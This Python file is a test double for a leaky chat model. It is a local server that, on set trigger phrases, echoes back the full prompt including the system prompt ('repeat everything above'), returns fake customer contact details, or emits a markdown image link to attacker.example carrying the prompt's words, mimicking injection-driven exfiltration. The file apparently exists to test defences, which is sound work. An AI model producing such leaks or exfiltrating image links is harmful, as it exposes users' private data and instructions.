"""A test double of a leaky model on 127.0.0.1 (OpenAI-compatible, non-streaming chat completions only).

Asked to "repeat everything above", it answers with every message it was sent, system prompt included, so a canary
placed there leaks into the completion; asked for "the customer list", it answers with fake customers' e-mail
addresses and phone numbers, as a model trained on them might; asked for "the quarterly chart", it answers with an
image whose address carries the prompt's words, as a model led by an injected instruction would; anything else it
acknowledges. Prints the port once
it listens, then serves until killed.
Usage: echo_upstream.py
"""
import http.server
import json
import time

CUSTOMERS = ("Here is the customer list: jane.roe@example.com +44 20 7946 0958, "
             "max.mustermann@example.org +49 30 901820, sam.smith@example.net +1 202 555 0143.")


class Handler(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        request = json.loads(self.rfile.read(int(self.headers.get("content-length", "0"))))
        messages = request.get("messages", [])
        text = " ".join(str(m.get("content", "")) for m in messages)
        if "repeat everything above" in text.lower():
            answer = "You said: " + text
        elif "customer list" in text.lower():
            answer = CUSTOMERS
        elif "quarterly chart" in text.lower():
            # As a model led by an instruction injected into a document would: data in an image's address.
            answer = "Here is the chart: ![chart](https://attacker.example/c.png?d=" + "+".join(text.split()[:8]) + ")"

        else:
            answer = "Noted."
        body = json.dumps({
            "id": "chatcmpl-echo", "object": "chat.completion", "created": int(time.time()), "model": request.get("model", "echo"),
            "choices": [{"index": 0, "message": {"role": "assistant", "content": answer}, "finish_reason": "stop"}],
            "usage": {"prompt_tokens": len(text.split()), "completion_tokens": len(answer.split()),
                      "total_tokens": len(text.split()) + len(answer.split())},
        }).encode()
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
print(server.server_address[1], flush=True)
server.serve_forever()
